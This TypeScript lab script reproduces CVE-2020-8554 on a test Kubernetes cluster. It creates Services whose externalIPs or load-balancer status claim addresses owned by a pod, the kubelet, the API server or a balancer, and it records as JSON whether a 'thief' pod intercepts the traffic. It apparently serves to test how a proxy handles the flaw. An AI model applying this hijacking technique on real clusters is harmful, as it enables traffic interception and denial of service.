// `capture.js MODE [FLAG]`, in a lab: Services name addresses that others own, as external IPs and in the status of a balancer
// (CVE-2020-8554). Prints as JSON who answers at each of them, to a pod and to the node itself.
import { execFileSync, spawn } from 'node:child_process';
import { createServer } from 'node:net';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import type { Service } from '../../src/kinds/service/types.ts';
import { startCluster, startProxy } from './lab/cluster.ts';
import { makeBridge, nodeIP, startPod } from './lab/network.ts';
import { labService, labSlice, namespace } from './lab/objects.ts';

const [mode = 'nftables', flag] = process.argv.slice(2);
const backendPort = 9376;
const podElsewhere = '198.51.100.11';
const serverElsewhere = '192.0.2.6';
const balancerIP = '203.0.113.9';

/** What each thief names. */
const targets: Readonly<Record<string, readonly [string, number]>> = {
  pod: ['10.244.1.11', backendPort],
  'pod-elsewhere': [podElsewhere, backendPort],
  agent: [nodeIP, 10250],
  'api-server-elsewhere': [serverElsewhere, backendPort],
  balancer: [balancerIP, 80],
  'balancer-port': [balancerIP, 8080],
  // Last: once it is captured, no client can reach the server, not even the proxy.
  'api-server': [nodeIP, 6443],
};

makeBridge();
ip('route', 'add', '198.51.100.0/24', 'dev', 'pods');
ip('route', 'add', '192.0.2.0/24', 'dev', 'pods');
// No machine has these addresses: packets that no rule translates come back as unreachable.
ip('route', 'add', '203.0.113.0/24', 'dev', 'pods');
const cluster = await startCluster();
const victim = await startPod(11, 'backend.js', ['victim']);
const other = await startPod(13, 'backend.js', ['victim']);
const thief = await startPod(12, 'backend.js', ['thief']);
const client = await startPod(50, 'connect-client.js');
victim.run('ip', 'addr', 'add', `${podElsewhere}/32`, 'dev', 'eth0');
other.run('ip', 'addr', 'add', `${serverElsewhere}/32`, 'dev', 'eth0');
createServer((socket) => socket.end('victim\n')).listen(10250, nodeIP);

async function serve(
  service: Service,
  balancer: readonly string[],
  backend: string,
): Promise<void> {
  const { name = '' } = service.metadata;
  await cluster.services.create(service);
  await cluster.slices.create(labSlice(name, [backend]));
  if (balancer.length === 0) return;
  const status = { loadBalancer: { ingress: balancer.map((one) => ({ ip: one })) } };
  const options = { type: 'merge', subresource: 'status' } as const;
  await cluster.services.patch({ namespace, name }, { status }, options);
}

/** Addresses of the cluster's ranges, each once. */
let last = 0;
function made(name: string, port: number, spec: Partial<Service['spec']>): Service {
  last += 1;
  const plain = labService(name, `10.96.7.${last}`);
  const ports = (plain.spec.ports ?? []).map((one) => ({ ...one, port }));
  return { ...plain, spec: { ...plain.spec, ports, ...spec } };
}

// Owners come first by age and by name: among balancers the older Service has a port.
await serve(made('a-owner', 80, { type: 'LoadBalancer' }), [balancerIP], other.ip);
await serve(made('a-elsewhere', 80, {}), [], podElsewhere);
const server = labSlice('kubernetes', [serverElsewhere]);
await cluster.slices.create({
  ...server,
  metadata: { ...server.metadata, name: 'another-server' },
});
for (const [what, [address, port]] of Object.entries(targets)) {
  // A server that is captured cannot be asked for anything.
  if (flag !== undefined && what === 'api-server') continue;
  const [external, status] = [`external-${what}`, `status-${what}`];
  await serve(made(external, port, { externalIPs: [address] }), [], thief.ip);
  await serve(made(status, port, { type: 'LoadBalancer' }), [address], thief.ip);
}

const here = askHere();
const answers: Record<string, unknown> = {};
for (const by of ['external', 'status']) {
  const others = by === 'external' ? 'status' : 'external';
  await keepOnly(by, others);
  const proxy = startProxy(cluster.kubeconfig, mode, flag === undefined ? {} : { flags: [flag] });
  await proxy.written();
  for (const [what, [address, port]] of Object.entries(targets)) {
    if (flag !== undefined && what === 'api-server') continue;
    client.say(`${address} ${port}`);
    answers[`${by} ${what}`] = [await client.readLine(), await here(`${address} ${port}`)];
  }
  await proxy.kill();
}
process.stdout.write(`${JSON.stringify(answers)}\n`);
process.exit(0);

/** Each way alone: two thieves of one address would hide each other. Others select another proxy meanwhile. */
async function keepOnly(kept: string, hidden: string): Promise<void> {
  const label = 'service.kubernetes.io/service-proxy-name';
  const { items } = await cluster.services.list({ namespace });
  for (const { metadata } of items) {
    const name = metadata.name ?? '';
    const isHidden = name.startsWith(`${hidden}-`);
    if (!isHidden && !name.startsWith(`${kept}-`)) continue;
    const labels = { [label]: isHidden ? 'none' : null };
    await cluster.services.patch({ namespace, name }, { metadata: { labels } }, { type: 'merge' });
  }
}

/** On the node itself, where packets take another way through the rules. */
function askHere(): (words: string) => Promise<string> {
  const path = fileURLToPath(new URL('./lab/connect-client.js', import.meta.url));
  const child = spawn(process.execPath, [path], { stdio: ['pipe', 'pipe', 'inherit'] });
  const lines = createInterface({ input: child.stdout })[Symbol.asyncIterator]();
  const ready = lines.next();
  return async (words) => {
    await ready;
    child.stdin.write(`${words}\n`);
    return String((await lines.next()).value);
  };
}

function ip(...args: readonly string[]): void {
  execFileSync('ip', args, { stdio: ['ignore', 'ignore', 'inherit'] });
}
